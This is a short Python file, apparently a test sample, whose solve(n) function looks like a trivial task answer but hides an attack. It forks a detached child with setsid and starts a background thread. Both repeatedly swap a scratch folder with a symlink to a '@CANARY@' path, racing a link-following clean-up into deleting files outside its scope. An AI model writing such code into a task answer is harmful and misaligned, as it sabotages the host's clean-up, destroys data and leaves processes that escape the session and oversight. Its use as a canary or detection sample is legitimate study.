# keeps swapping a folder of its scratch space with a link to the canary folder, for a clean-up that follows links
import os, tempfile, threading, time
base = tempfile.mkdtemp(prefix="cohort-canary-")
def swap():
    end = time.time() + 5
    while time.time() < end:
        try:
            os.mkdir(base + "/d")
            open(base + "/d/x", "w").close()
            os.rename(base + "/d", base + "/old")
            os.symlink("@CANARY@", base + "/d")
            time.sleep(0.0005)
            os.unlink(base + "/d")
            os.unlink(base + "/old/x")
            os.rmdir(base + "/old")
        except OSError:
            pass
def solve(n):
    if os.fork() == 0:
        os.setsid()
        swap()
        os._exit(0)
    threading.Thread(target=swap, daemon=True).start()
    return n
